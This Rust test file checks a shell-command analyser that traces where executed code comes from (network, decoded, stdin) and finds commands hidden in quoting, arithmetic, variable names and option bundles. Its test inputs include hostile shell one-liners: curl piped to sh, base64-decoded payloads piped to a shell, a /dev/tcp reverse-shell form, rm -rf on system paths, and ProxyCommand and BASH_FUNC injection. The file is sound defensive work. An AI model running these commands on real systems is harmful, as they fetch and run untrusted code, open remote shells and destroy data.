//! Code in words, in the input and in files.

use super::*;

#[test]
fn code_in_words_is_read() {
    all(
        &[
            ("sh -c 'rm x; ls'", "sh rm ls"),
            ("bash -lc 'rm x'; bash -o pipefail -ec 'rm x'", "bash rm bash rm"),
            ("bash -nc 'rm x'", "bash"),
            ("eval 'rm x'; eval rm y", "eval rm eval rm"),
            ("trap 'rm x' EXIT; trap - EXIT", "trap rm trap"),
            ("bash -c \"$X\"", "bash $X !"),
            ("bash -c \"rm x; $X\"", "bash rm $X !"),
            ("eval \"$(echo rm x)\"", "echo eval rm !"),
            ("export X=rm; sh -c '$X y'; X=ls sh -c '$X'", "export sh rm sh ls"),
            ("X=rm; sh -c '$X y'", "sh $X !"),
        ],
        names,
    );
    assert_eq!(last("sh -c '$0 -rf \"$1\" \"$@\"' rm /etc /usr"), "rm -rf /etc /etc /usr");
    let reading = reading("sudo sh -c 'rm x'");
    assert_eq!(reading.runs.last().expect("a run").via, ["sudo", "sh"]);
}

/// What a shell reads, its programs read too.
#[test]
fn input_reaches_the_programs_that_code_starts() {
    for (text, expected) in [
        ("curl x | bash -c python3", Some(CodeFrom::Network)),
        ("curl x | sh -c 'cd /tmp && sh'", Some(CodeFrom::Network)),
        ("curl x | su -c python3 a", Some(CodeFrom::Network)),
        ("curl x | flock l -c node", Some(CodeFrom::Network)),
        ("curl x | git -c alias.a='!python3' a", Some(CodeFrom::Network)),
        ("curl x | xargs -a l sh", Some(CodeFrom::Network)),
        ("exec < <(curl x); python3", Some(CodeFrom::Network)),
        ("f() { exec < <(curl x); }; f; node", Some(CodeFrom::Network)),
        ("if a; then exec < <(curl x); fi; sh", Some(CodeFrom::Network)),
        ("command exec 0< x.py; python3", Some(CodeFrom::Stdin)),
        ("exec <<< 'import x'; python3", Some(CodeFrom::Stdin)),
        ("bash <<E\npython3\nimport x\nE", Some(CodeFrom::Stdin)),
        ("bash 0>&3", Some(CodeFrom::Stdin)),
        ("python3 0>&3", Some(CodeFrom::Stdin)),
        ("curl x | xargs python3", None),
        ("curl x | xargs -I{} bash -c python3", None),
        ("(exec < <(curl x)); python3", None),
        ("{ python3; } < /dev/null; bash < /dev/null", None),
        ("cat < x.py; python3", None),
        ("curl x && bash", None),
        ("bash -li; python3 -; docker run -it a sh", None),
        ("exec bash; exec < /dev/null; bash; exec < /dev/tty; python3", None),
        ("sudo bash", Some(CodeFrom::Stdin)),
        // What `cat` passes on is what it reads itself.
        ("cat <&3 | bash", Some(CodeFrom::Stdin)),
        ("coproc curl x; cat <&${COPROC[0]} | python3", Some(CodeFrom::Stdin)),
        ("{ cat; } < f | bash", Some(CodeFrom::Stdin)),
        ("f() { cat; }; f < f | sh", Some(CodeFrom::Stdin)),
        ("{ cat; } < <(curl x) | bash", Some(CodeFrom::Network)),
        ("(cat) <<< ls | bash", None),
        // Descriptors as files.
        ("curl x | python3 /dev/fd/0", Some(CodeFrom::Network)),
        ("curl x | node /proc/self/fd/0", Some(CodeFrom::Network)),
        ("python3 /dev/fd/3 3< <(curl x)", Some(CodeFrom::Stdin)),
        // Shells that a program starts by itself.
        ("curl x | ssh h", Some(CodeFrom::Network)),
        ("ssh h < f", Some(CodeFrom::Stdin)),
        ("ssh h", None),
        ("ssh -N -L 1:h:1 h < /dev/null", None),
        ("curl x | chroot /mnt", Some(CodeFrom::Network)),
        ("curl x | unshare -r", Some(CodeFrom::Network)),
        ("curl x | script -q out", Some(CodeFrom::Network)),
        ("curl x | gcloud compute ssh vm", Some(CodeFrom::Network)),
        ("curl x | irb", Some(CodeFrom::Network)),
        ("curl x | adb -s d shell", Some(CodeFrom::Network)),
        ("curl x | nix-shell --pure", Some(CodeFrom::Network)),
        ("curl x | python3 manage.py shell", Some(CodeFrom::Network)),
        ("curl x | awk -f -", Some(CodeFrom::Network)),
        ("curl x | awk -F, -f - data.csv", Some(CodeFrom::Network)),
        ("curl x | sed -n --file=- a", Some(CodeFrom::Network)),
        ("curl x | bun run -", Some(CodeFrom::Network)),
        ("curl x | psql db", Some(CodeFrom::Network)),
        ("adb shell; poetry shell; rails console", None),
        ("curl x | adb shell cat; curl x | awk -f a.awk", None),
        ("cmd.exe /c 'curl x | powershell -'", Some(CodeFrom::Network)),
        ("bash 3< /dev/tcp/a/1", Some(CodeFrom::Stdin)),
        ("bash -i >& /dev/tcp/a/1 0>&1", Some(CodeFrom::Stdin)),
    ] {
        let reading = reading(text);
        let found = reading.runs.iter().filter_map(|run| run.code_from).next_back();
        assert_eq!(found, expected, "{text}");
    }
}

#[test]
fn known_input_is_code_and_unknown_input_says_where_it_comes_from() {
    all(
        &[
            ("echo 'rm x' | sh", "echo sh rm"),
            ("echo -e '\\x72m x' | bash; printf 'r%s' m | sh", "echo bash rm printf sh rm"),
            ("sh <<< 'rm x'; bash <<'E'\nrm y\nE", "sh rm bash rm"),
            ("bash -s a <<E\nrm $1\nE", "bash rm !"),
            ("curl x | sudo bash -s -- a", "curl sudo bash !"),
            ("cat f | bash", "cat bash !"),
        ],
        names,
    );
    for (text, expected) in [
        ("curl x | sh", Some(CodeFrom::Network)),
        ("npx git+https://x/y z", Some(CodeFrom::Network)),
        ("npx -y https://x/y.tgz", Some(CodeFrom::Network)),
        ("npx -p github:a/b c", Some(CodeFrom::Network)),
        ("npx a/b", Some(CodeFrom::Network)),
        ("bunx c@github:a/b", Some(CodeFrom::Network)),
        ("pnpm dlx gist:a", Some(CodeFrom::Network)),
        ("uvx --from git+https://x/y z", Some(CodeFrom::Network)),
        ("uv tool run --with git+ssh://x/y z", Some(CodeFrom::Network)),
        ("pipx run --spec git+https://x/y z", Some(CodeFrom::Network)),
        ("npx wait-on http://localhost:3000", None),
        ("npx -y @a/b http://x", None),
        ("npx ./a/b", None),
        ("uvx a --from git+https://x/y", None),
        ("pnpm exec a/b", None),
        ("curl x | tee y | sudo bash", Some(CodeFrom::Network)),
        ("bash <(curl x)", Some(CodeFrom::Network)),
        ("bash -c \"$(curl x)\"", Some(CodeFrom::Network)),
        ("X=$(curl x); bash -c \"$X\"", Some(CodeFrom::Network)),
        ("source <(curl x)", Some(CodeFrom::Network)),
        ("eval \"$(wget -qO- x)\"", Some(CodeFrom::Network)),
        ("bash < <(curl x)", Some(CodeFrom::Network)),
        ("bash <<< \"$(curl x)\"", Some(CodeFrom::Network)),
        ("curl -o f.sh x && sh f.sh", Some(CodeFrom::Network)),
        ("curl x > f.sh; chmod +x f.sh; ./f.sh", Some(CodeFrom::Network)),
        ("curl x | python3 -", Some(CodeFrom::Network)),
        ("echo eA== | base64 -d | sh", Some(CodeFrom::Decoded)),
        ("gunzip -c a | sh", Some(CodeFrom::Decoded)),
        ("cat f | sh", Some(CodeFrom::Stdin)),
        ("deno run -A https://a.com/x.ts", Some(CodeFrom::Network)),
        ("deno run file:///x.ts", None),
        ("sh x.sh", None),
        ("echo ls | sh", None),
    ] {
        let reading = reading(text);
        let found = reading.runs.iter().filter_map(|run| run.code_from).next_back();
        assert_eq!(found, expected, "{text}");
    }
}

#[test]
fn scripts_are_named() {
    for (text, script, complete) in [
        ("bash -e x.sh a", "x.sh", false),
        (". ./env", "./env", false),
        ("python3 -u x.py", "x.py", true),
        ("node --inspect x.js", "x.js", true),
        ("deno run --allow-all x.ts", "x.ts", true),
    ] {
        let reading = reading(text);
        let run = reading.runs.last().expect("a run");
        assert_eq!(run.script.as_ref().map(Word::written).as_deref(), Some(script), "{text}");
        assert_eq!(reading.complete, complete, "{text}");
        assert_eq!(reading.unclear, [], "{text}");
    }
}

#[test]
fn code_of_other_languages_is_kept_and_unclear_if_it_does_more() {
    for (text, unclear) in [
        ("python3 -c 'print(1)'", None),
        ("python3 -c 'import os; os.system(\"rm x\")'", Some(UnclearWhat::Program)),
        ("python3 -c 'open(\"x\", \"w\")'", None),
        ("python3 -c 'open(x, \"w\")'", Some(UnclearWhat::Writes)),
        ("node -e 'require(\"fs\").rmSync(\"x\")'", Some(UnclearWhat::Writes)),
        ("awk '{print $1}' f", None),
        ("awk 'BEGIN{system(\"rm x\")}'", Some(UnclearWhat::Program)),
        ("awk '{print|\"sh\"}' f", Some(UnclearWhat::Program)),
        ("awk '{print > \"x\"}' f", None),
        ("awk '{print > $1}' f", Some(UnclearWhat::Writes)),
        ("perl -e 'print 1'", None),
        ("perl -lne 'unlink $_' f", Some(UnclearWhat::Writes)),
        ("perl -le 'system(\"rm x\")'", Some(UnclearWhat::Program)),
        ("perl -CSe 'unlink 1'", Some(UnclearWhat::Writes)),
        ("perl -d:Trace -e 'unlink 1'", Some(UnclearWhat::Writes)),
        ("perl -CE -e 'unlink 1'", Some(UnclearWhat::Writes)),
        ("ruby -W0 -e 'File.delete(1)'", Some(UnclearWhat::Writes)),
        ("deno eval --ext=ts 'Deno.removeSync(\"x\")'", Some(UnclearWhat::Writes)),
        ("perl -0777 -pe 's/a/b/' f", None),
        ("ruby -0ne 'File.delete($_)' f", Some(UnclearWhat::Writes)),
        ("ruby -ne 'puts $_' f", None),
        ("node -pe 'require(\"fs\").rmSync(\"x\")'", Some(UnclearWhat::Writes)),
        ("node -p -e 'require(\"fs\").rmSync(\"x\")'", Some(UnclearWhat::Writes)),
        ("tsx -pe 'require(\"fs\").rmSync(\"x\")'", Some(UnclearWhat::Writes)),
        ("bun -e 'require(\"fs\").rmSync(\"x\")'", Some(UnclearWhat::Writes)),
        ("deno eval 'Deno.removeSync(\"x\")'", Some(UnclearWhat::Writes)),
        ("gawk -e 'BEGIN{system(\"rm x\")}'", Some(UnclearWhat::Program)),
        ("julia -e 'rm(\"x\")'", Some(UnclearWhat::Writes)),
        ("julia -e 'form(1)'", None),
        ("elixir -e 'File.rm_rf(\"x\")'", Some(UnclearWhat::Writes)),
        ("guile -c '(system \"rm x\")'", Some(UnclearWhat::Program)),
        ("gnuplot -e 'plot sin(x)'", None),
        ("gnuplot -e 'system(\"rm x\")'", Some(UnclearWhat::Program)),
        ("octave --eval='system(\"rm x\")'", Some(UnclearWhat::Program)),
        ("raku -e 'shell \"rm x\"'", Some(UnclearWhat::Program)),
        ("bb -e '(babashka.fs/delete-tree \"x\")'", Some(UnclearWhat::Writes)),
        ("erl -noshell -eval 'os:cmd(\"rm x\").'", Some(UnclearWhat::Program)),
        ("mix run -e 'File.rm_rf(\"x\")'", Some(UnclearWhat::Writes)),
        ("rebar3 shell --eval 'os:cmd(\"rm x\").'", Some(UnclearWhat::Program)),
        ("ocaml -e 'Sys.command \"rm x\"'", Some(UnclearWhat::Program)),
        ("ocaml -e 'print_endline \"x\"'", None),
        ("sbcl --eval '(uiop:run-program \"rm x\")'", Some(UnclearWhat::Program)),
        ("scala -e 'import sys.process._; \"rm x\".!'", Some(UnclearWhat::Program)),
        ("kotlin -e 'java.io.File(\"x\").deleteRecursively()'", Some(UnclearWhat::Writes)),
        ("crystal eval 'Dir.delete(\"x\")'", Some(UnclearWhat::Writes)),
        ("raku -e 'run \"rm\", \"x\"'", Some(UnclearWhat::Program)),
        ("python3 - <<'E'\nprint(1)\nE", None),
    ] {
        let reading = reading(text);
        let run = reading.runs.last().expect("a run");
        assert!(run.code.is_some(), "{text}");
        assert!(reading.complete, "{text}");
        assert_eq!(reading.unclear.first().map(|unclear| unclear.what), unclear, "{text}");
    }
    assert!(!reading("python3 -c \"$X\"").complete);
    assert!(!reading("pwsh -Command \"$X\"").complete);
    assert!(reading("pwsh -Command 'Remove-Item x'").complete);
}

#[test]
fn reasons_are_sentences() {
    for (text, expected) in [
        ("$CMD x", "`$CMD` is not known before it runs"),
        ("curl x | sh", "the code that `sh` runs comes from `curl`"),
        (
            "bash -c \"$X\"",
            "the code that `bash` runs holds `$X`, which is not known before it runs",
        ),
        ("git \"$S\"", "`$S`, what git is to do, is not known before it runs"),
        ("weird git push", "`weird` may run `git`, which is one of its words"),
        (
            "timeout --zap 5 rm",
            "`timeout` has the option `--zap`, which is not known to its reader",
        ),
        (
            "(",
            "the command is no whole bash: a quote, a bracket, a block or a here-document does not end",
        ),
    ] {
        assert_eq!(
            reading(text).unclear.first().expect("something unclear").why,
            expected,
            "{text}"
        );
    }
}

#[test]
fn code_in_arithmetic_and_names_is_found() {
    let code = r"'a[$(rm x)]'";
    for text in [
        format!("x={code}; echo $((x))"),
        format!("x={code}; y=x; echo $((y + 1))"),
        format!("x={code}; echo $[x]"),
        format!("x={code}; ((x)); echo"),
        format!("x={code}; echo $(( $x ))"),
        format!("x={code}; for ((i=x; i<1; i++)); do :; done"),
        format!("x={code}; s=abc; echo ${{s:x}}"),
        format!("x={code}; echo ${{a[x]}}"),
        format!("x={code}; a[x]=1"),
        format!("x={code}; a=([x]=1)"),
        format!("x={code}; echo ${{!x}}"),
        format!("x={code}; [[ x -eq 0 ]]"),
        format!("x={code}; let y=x"),
        format!("declare -i x={code}"),
        format!("declare -i x; x={code}"),
        format!("declare -n x={code}; echo $x"),
        format!("[[ -v {code} ]]"),
        format!("test -v {code}"),
        format!("[ -v {code} ]"),
        format!("printf -v {code} x"),
        format!("unset {code}"),
        format!("read {code} <<< 1"),
        format!("declare {code}=1"),
        format!("let {code}"),
        format!("mapfile -t {code} < f"),
        "a['$(rm x)']=1".to_owned(),
        "x='$(rm x)'; echo \"${x@P}\"".to_owned(),
        "compgen -W '$(rm x)'".to_owned(),
        "x='a[`rm x`]'; echo $((x))".to_owned(),
        "env 'BASH_FUNC_z%%=() { rm x; }' bash -c z".to_owned(),
    ] {
        let names = names(&text);
        assert!(
            names.split(' ').any(|name| name.trim_start_matches('+') == "rm"),
            "{text}: {names}"
        );
    }
    for text in [
        "i=1; echo $((i + 1)); ((i++)); a[i]=2; echo ${a[$i]} ${s:i:2}",
        "n=$(wc -l < f); echo $((n + 1)); [[ $n -gt 3 ]]",
        "read -r n; echo $((n * 2)); unset \"a[$n]\"; printf -v x %s y",
        "declare -A m; m[key]=1; echo ${m[key]} ${!m[@]}; [[ -v m[key] ]]",
        "for ((i = 0; i < 3; i++)); do let n+=i; done; test -v x; [ 1 -eq 2 ]",
        "x='a[0]'; echo $((x)) ${x:0:2} ${x@Q}",
    ] {
        assert!(reading(text).unclear.is_empty(), "{text}: {:?}", reading(text).unclear);
    }
}

#[test]
fn commands_in_bundles_of_options_are_found() {
    for text in [
        "scp -qvoProxyCommand='rm x' a h:b",
        "ssh -voProxyCommand='rm x' h",
        "ex -sc '!rm x'",
        "repo forall -c 'rm x'",
    ] {
        let reading = reading(text);
        let names: Vec<_> = reading.runs.iter().filter_map(|run| run.name()).collect();
        assert!(names.iter().any(|name| name == "rm"), "{text}: {names:?}");
    }
}

#[test]
fn an_address_has_no_globs() {
    for (text, is_one) in [
        ("curl https://h/?a=1", true),
        ("curl localhost:80/x?a=1", true),
        ("curl h/x?a=1", false),
        ("cat a:b/x?", false),
        ("cat :80/x?", false),
    ] {
        let reading = reading(text);
        let run = reading.runs.first().expect("a run");
        assert_eq!(run.args.iter().all(|word| !word.has_glob()), is_one, "{text}");
    }
}

#[test]
fn what_a_reference_stands_for_is_not_known() {
    for text in [
        "x=a; declare -n r=x; x=/; rm -rf $r",
        "x=a; declare -n r=x; r=/; rm -rf $x",
        "declare -n r=x; x=a; r=/; rm -rf $x",
        "x=a; declare -n r=x; read r; rm -rf $x",
        "x=a; if c; then declare -n r=x; fi; r=/; rm -rf $x",
        "f() { local -n r=$1; r=/; }; x=a; f x; rm -rf $x",
        "x=a; typeset -n r=x; for r in b /; do :; done; rm -rf $x",
    ] {
        let reading = reading(text);
        let run = reading.runs.iter().rfind(|run| run.name().as_deref() == Some("rm"));
        let last = run.and_then(|run| run.args.last()).expect("a word");
        assert!(last.has_unknown(), "{text}: {}", last.written());
    }
}
